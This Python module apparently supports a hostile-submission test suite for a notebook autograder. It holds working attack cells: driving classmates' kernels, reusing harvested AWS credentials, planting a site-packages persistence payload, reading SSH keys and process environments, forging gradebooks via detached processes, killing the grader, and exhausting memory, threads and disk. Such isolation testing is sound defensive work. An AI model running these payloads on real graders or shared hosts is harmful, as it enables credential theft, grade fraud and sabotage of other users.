"""Attacks on the grader from inside a submission, each a code cell added after a correct solution.

Every attack ends by raising ``RuntimeError("ATTACK-REPORT {...}")`` with what it
found and what worked, so the test reads the outcome from the grader's own record
of cell errors (and, if anything leaked, the leak shows up in the feedback page,
which the tests search for planted secrets). Each attack is written so that, had
it worked, a classmate's score, the output folder, the environment or a process
list would visibly change.

``params`` are what a well-informed attacker could know: the output folder, the
grader's temporary folder, the instructor's home, a marker for its processes.
"""

from __future__ import annotations

import json
from typing import Any

__all__ = ["cell", "fork_and_hold", "ATTACKS"]

_PRELUDE = """
import glob, json, os, re, signal, socket, subprocess, sys, time, urllib.request
P = json.loads({params!r})
report = {{}}
def finish():
    raise RuntimeError("ATTACK-REPORT " + json.dumps(report, default=str)[:1800])
def own_port():
    try:
        return int(os.environ.get("LABKIT_ENDPOINT", "").rsplit(":", 1)[1])
    except (IndexError, ValueError):
        return 0
def walk_files(names):
    roots = {{"/tmp", "/var/tmp", "/dev/shm", "/run", os.environ.get("TMPDIR", "/tmp"), P["grader_tmp"]}}
    found = []
    for root in roots:
        for folder, dirs, files in os.walk(root):
            found += [os.path.join(folder, f) for f in files
                      if f in names or f.endswith(".json") and "kernel" in f]
    return sorted(set(found))
"""

# Three roads to a classmate's sandbox or kernel, tried over and over while classmates are graded.
CROSS_STUDENT = """
report.update(connection_files=0, kernels_driven=0, credential_files=0, foreign_api_calls=0, ports=[],
              console_password_changes=0)
SABOTAGE = ("import boto3, os\\nboto3.client = boto3.Session.client = lambda *a, **k: 1/0\\n"
            "os.environ['AWS_ACCESS_KEY_ID'] = 'AKIAX'")
def ours(path):
    # Act only on the test's own grader (never on anything else on a shared machine).
    return os.path.realpath(path).startswith(os.path.realpath(P["grader_tmp"]) + "/")
def drive_kernel(path):
    from jupyter_client import BlockingKernelClient
    info = json.load(open(path))
    if "key" not in info or not ours(path):
        return
    report["connection_files"] += 1
    kc = BlockingKernelClient()
    kc.load_connection_info(info)
    kc.start_channels()
    try:
        kc.execute(SABOTAGE)
        kc.get_shell_msg(timeout=2)
        report["kernels_driven"] += 1
    finally:
        kc.stop_channels()
def use_credentials(path):
    text = open(path).read()
    key = re.search(r"aws_access_key_id\\s*=\\s*(\\S+)", text)
    secret = re.search(r"aws_secret_access_key\\s*=\\s*(\\S+)", text)
    if not (key and secret) or not ours(path):
        return
    config = open(os.path.join(os.path.dirname(path), "config")).read()
    endpoint = re.search(r"endpoint_url\\s*=\\s*(\\S+)", config).group(1)
    if endpoint.endswith(f":{own_port()}") or endpoint == "http://127.0.0.1:9":
        return  # its own sandbox's, or the offline placeholder (a closed port: no one's sandbox)
    report["credential_files"] += 1
    import boto3
    iam = boto3.client("iam", endpoint_url=endpoint, region_name="us-east-1",
                       aws_access_key_id=key.group(1), aws_secret_access_key=secret.group(1))
    iam.delete_login_profile(UserName="alice-developer")
    report["foreign_api_calls"] += 1
def post(port, path, data):
    req = urllib.request.Request(f"http://127.0.0.1:{port}/labkit/console/{path}", json.dumps(data).encode(),
                                 {"Content-Type": "application/json"})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(req, timeout=3) as resp:
        return json.loads(resp.read())
def only_loopback():
    # In its own network namespace a jail sees "lo" only; elsewhere, leave the machine's ports alone.
    names = [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]]
    return names == ["lo"]
def console_attack():
    if not only_loopback():
        report["not_isolated"] = True
        return
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            port = int(local.rsplit(":", 1)[1], 16)
            if state != "0A" or port == own_port():
                continue
            try:  # a sandbox? (other listeners of this kernel's own do not answer this)
                urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
                    f"http://127.0.0.1:{port}/labkit/health", timeout=2).read()
            except Exception:
                continue
            report["ports"] = sorted(set(report["ports"]) | {port})
            try:
                s = post(port, "sign-in", {"account": "123456789012", "user": "alice-developer",
                                          "password": "TempPassword123!"})
                post(port, "change-password", {"session": s["session"], "old_password": "TempPassword123!",
                                               "new_password": "Attacker-Chose-This-1!"})
                report["console_password_changes"] += 1
            except Exception:
                pass
end = time.time() + P["seconds"]
while time.time() < end:
    for path in walk_files({"credentials"}):
        for road in (drive_kernel, use_credentials):
            try:
                road(path)
            except Exception:
                pass
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            if b"-f" in args:
                drive_kernel(args[args.index(b"-f") + 1].decode())
        except Exception:
            pass
    console_attack()
    time.sleep(0.5)
report["ports"] = len(report["ports"])
finish()
"""

# Leave code in the environment that every later kernel runs: it does the exercise for them.
PERSIST = """
import site, labkit
PAYLOAD = '''
try:
    import labkit.sandbox as _s
    _attach = _s.attach
    def _boosted(spec, quiet=False):
        lab = _attach(spec, quiet)
        iam = lab.client("iam")
        iam.create_user(UserName="alice-developer")
        iam.create_login_profile(UserName="alice-developer", Password="TempPassword123!",
                                 PasswordResetRequired=True)
        iam.create_user(UserName="castle-build-bot")
        iam.create_access_key(UserName="castle-build-bot")
        return lab
    _s.attach = _boosted
except Exception:
    pass
'''
report["written"] = []
folders = set(site.getsitepackages()) | {p for p in sys.path if p.endswith("site-packages")}
folders.add(os.path.dirname(os.path.dirname(labkit.__file__)))
for folder in folders:
    for name, text in (("zz_castle_boost.pth", "import zz_castle_boost\\n"), ("zz_castle_boost.py", PAYLOAD)):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write(text)
            report["written"].append(os.path.join(folder, name))
        except OSError:
            pass
finish()
"""

# Read the instructor's secrets: files by absolute path, the grader's environment, an SSH agent.
SECRETS = """
report["found"] = []
paths = [P["instructor_home"] + "/.aws/credentials", "/root/.aws/credentials", "/root/.ssh/id_rsa",
         P["grader_key"]] + glob.glob("/home/*/.aws/credentials") + glob.glob("/home/*/.ssh/id_*")
for path in paths:
    try:
        report["found"].append([path, open(path).read()[:200]])
    except OSError:
        pass
SECRET_NAMES = ("TOKEN", "SECRET", "PASSWORD", "SSH_AUTH_SOCK", "AWS_ACCESS_KEY_ID")
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if any(name in env for name in SECRET_NAMES):
            report["found"].append([pid, env[:600]])
own = globals().get("lab")  # this notebook's own sandbox keys are not a secret to it
own_values = {own.caller.access_key_id, own.caller.secret_access_key} if own else set()
for name in ("SSH_AUTH_SOCK", "LMS_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"):
    if os.environ.get(name) and os.environ[name] not in own_values:
        report["found"].append([name, os.environ[name]])
sock = os.environ.get("SSH_AUTH_SOCK") or P["ssh_auth_sock"]
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect(sock)
    report["found"].append(["ssh-agent reachable", sock])
except OSError:
    pass
finish()
"""

# A chain of detached processes that outlives the kernel and forges the gradebook later.
STRAY = """
CHAIN = '''
import os, sys, time, pathlib
depth, out, evidence = int(sys.argv[1]), sys.argv[2], sys.argv[3]
delay, marker = float(sys.argv[4]), sys.argv[5]
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
if depth > 0:
    os.execv(sys.executable, [sys.executable, "-c", sys.argv[6], str(depth - 1), out, evidence,
                              str(delay), marker, sys.argv[6]])
time.sleep(delay)
pathlib.Path(evidence).write_text("a stray process outlived its submission")
fake = "student,assignment,score,max_score,status\\\\nstray,users,999,10,graded\\\\n"
pathlib.Path(out, "grades.csv").write_text(fake)
pathlib.Path(out, "results.json").write_text('{"format": "labkit-grades/2", "submissions": []}')
'''
subprocess.Popen([sys.executable, "-c", CHAIN, str(P["depth"]), P["out"], P["evidence"], str(P["delay"]),
                  P["marker"], CHAIN], start_new_session=True)
time.sleep(1)
report["started"] = True
finish()
"""

# Stop or kill the grader: every process it can see that looks like labkit, and its parents.
SIGNALS = """
report["signalled"] = []
me, targets = os.getpid(), set()
pid = os.getppid()
for _ in range(2):                      # the worker, the grading command (never further up)
    if pid > 1:
        targets.add(pid)
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
visible = [int(p) for p in os.listdir("/proc") if p.isdigit()]
for p in visible if len(visible) < 20 else []:  # a whole machine's processes: leave them alone
    try:
        cmdline = open(f"/proc/{p}/cmdline", "rb").read()
    except OSError:
        continue
    if p != me and b"labkit" in cmdline and b"grade" in cmdline:
        targets.add(p)
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for target in sorted(targets):
        try:
            os.kill(target, sig)
            report["signalled"].append([target, int(sig)])
        except OSError:
            pass
finish()
"""

# Append to labkit's own files, the output folder and the grader's key.
TAMPER = """
import labkit
report["changed"] = []
root = os.path.dirname(labkit.__file__)
targets = glob.glob(root + "/*.py") + glob.glob(root + "/checks/*.py") + glob.glob(root + "/grading/*.py")
targets += [P["out"] + "/results.json", P["out"] + "/grades.csv", P["grader_key"]]
for path in targets:
    try:
        with open(path, "a") as fh:
            fh.write("\\n# tampered\\n")
        report["changed"].append(path)
    except OSError:
        pass
finish()
"""

# Kill only the process that runs this kernel (used without a jail, where it is the grading worker).
KILL_WORKER = """
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(5)
"""

# Hold every task the kernel's uid may have (threads until refused), while classmates are graded.
TASK_HOG = """
import threading
stop = threading.Event()
held = 0
try:
    while held < 100_000:
        threading.Thread(target=stop.wait, args=(P["seconds"] + 30,), daemon=True).start()
        held += 1
except RuntimeError:
    pass
time.sleep(P["seconds"])
report["held"] = held
stop.set()
finish()
"""

def fork_and_hold(children: int, mib: int, *, hold: int, wait: int) -> str:
    """A program that forks ``children`` processes, each touching ``mib`` MiB (real memory, not only
    address space) and holding it for ``hold`` s; it waits up to ``wait`` s until each child holds
    its memory or was killed, sets ``alive`` to how many still live, and kills them all.

    The hostile suite's memory attack and the jail's memory test (``test_grading_jail_limits``)
    both run it."""
    return f"""
import os, select, time
read_end, write_end = os.pipe()
children = []
for _ in range({children}):
    pid = os.fork()
    if pid == 0:
        block = bytearray({mib} * 1024 * 1024)
        for i in range(0, len(block), 4096):
            block[i] = 1
        os.write(write_end, b"+")
        time.sleep({hold})
        os._exit(0)
    children.append(pid)
holding, dead, end = 0, set(), time.monotonic() + {wait}
while holding + len(dead) < {children} and time.monotonic() < end:  # each child: holding, or killed
    if select.select([read_end], [], [], 0.2)[0]:
        holding += len(os.read(read_end, {children}))
    dead |= {{c for c in children if c not in dead and os.waitpid(c, os.WNOHANG)[0]}}
time.sleep(0.5)
dead |= {{c for c in children if c not in dead and os.waitpid(c, os.WNOHANG)[0]}}
alive = {children} - len(dead)
for c in children:
    try:
        os.kill(c, 9)
    except OSError:
        pass
"""


# Six forked children holding 450 MiB each (touched): 2.6 GiB for one submission. (At 400 MiB, five
# children and the kernel came within a few MiB of a 2 GiB group limit: whether a fifth fit was luck.)
FORK_MEMORY = fork_and_hold(6, 450, hold=120, wait=60) + """
report["alive"] = alive
finish()
"""

# Fill HOME (the host's /tmp, once), and write beside it, into the kernel's own folder.
DISK_FILL = """
home = os.environ["HOME"]
report["home_mb"] = 0
try:
    for i in range(60):                                  # at most 600 MB: enough to pass any cap
        with open(os.path.join(home, f"fill-{i}"), "wb") as fh:
            fh.write(b"x" * (10 * 1024 * 1024))
        report["home_mb"] += 10
except OSError as err:
    report["home_refused"] = err.errno
report["files"] = 0
try:
    for i in range(2000):
        open(os.path.join(home, f"small-{i}"), "w").close()
        report["files"] += 1
except OSError:
    pass
try:
    with open(os.path.join(os.path.dirname(home), "beside-home"), "wb") as fh:
        fh.write(b"x" * 1024)
    report["kernel_folder_written"] = True
except OSError:
    report["kernel_folder_written"] = False
finish()
"""

# An IOPub "stream" message whose content is a list: the grader must blame the notebook.
MALFORMED_IOPUB = """
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel
msg = kernel.session.msg("stream", content={"name": "stdout", "text": "x"}, parent=kernel.get_parent("shell"))
msg["content"] = b'["not", "a", "dict"]'  # already packed: Session sends bytes as they are
kernel.session.send(kernel.iopub_socket, msg, ident=b"stream.stdout")
time.sleep(2)
"""

# Declare a 3 GiB body to the sandbox and stream 64 MB of it.
BIG_BODY = """
host, port = "127.0.0.1", own_port()
conn = socket.create_connection((host, port), timeout=30)
conn.sendall(b"POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/x-www-form-urlencoded\\r\\n"
             b"Content-Length: %d\\r\\n\\r\\n" % (3 * 1024**3))
chunk = b"Action=ListUsers&" * 65536
sent = 0
try:
    while sent < 64 * 1024 * 1024:
        conn.sendall(chunk)
        sent += len(chunk)
    conn.shutdown(socket.SHUT_WR)
except OSError:
    pass
answer = b""
try:
    while data := conn.recv(65536):
        answer += data
except OSError:
    pass
report["status"] = answer.split(b"\\r\\n", 1)[0].decode(errors="replace")
finish()
"""

ATTACKS = {"cross-student": CROSS_STUDENT, "persist": PERSIST, "secrets": SECRETS, "stray": STRAY,
           "signals": SIGNALS, "tamper": TAMPER, "kill-worker": KILL_WORKER, "task-hog": TASK_HOG,
           "fork-memory": FORK_MEMORY, "disk-fill": DISK_FILL, "malformed-iopub": MALFORMED_IOPUB,
           "big-body": BIG_BODY}


def cell(name: str, params: dict[str, Any]) -> str:
    """The source of attack ``name`` with its ``params``."""
    return _PRELUDE.format(params=json.dumps(params)) + ATTACKS[name]


def report_of(entry: dict[str, Any]) -> dict[str, Any] | None:
    """The attack's report, read back from the grader's record of the cell's exception."""
    for error in entry.get("cell_errors") or []:
        if error["evalue"].startswith("ATTACK-REPORT "):
            return json.loads(error["evalue"][len("ATTACK-REPORT "):])
    return None
